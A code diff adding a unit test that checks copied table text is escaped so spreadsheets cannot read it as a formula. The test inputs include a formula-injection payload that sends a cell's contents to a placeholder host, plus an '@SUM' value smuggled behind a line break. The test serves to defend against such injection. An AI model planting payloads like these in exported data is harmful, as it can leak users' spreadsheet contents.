@@ -83,6 +83,13 @@ it('keeps tabs and line ends out of copied cells', () => {
   expect(asLines([{ name: 'a\tb\nc', price: 1 }], columns)).toBe('Name\tPrice\na b c\t1')
 })
 
+it('lets no spreadsheet take a copied text for a formula', () => {
+  const copied = (name: string, price = 1) => asLines([{ name, price }], columns).split('\n')[1]
+  expect(copied('=HYPERLINK("https://x.example/"&A1)')).toBe(`'=HYPERLINK("https://x.example/"&A1)\t1`)
+  expect(copied('\n@SUM(A1)')).toBe(`' @SUM(A1)\t1`)
+  expect(copied('-5', -5)).toBe('-5\t-5')
+})
+
 it('finds each word of a query anywhere', () => {
   const rows = ['Kleiner Laster 4x4', 'Bus']
   expect(search(rows, ' LASTER klein', (row) => row)).toEqual(['Kleiner Laster 4x4'])
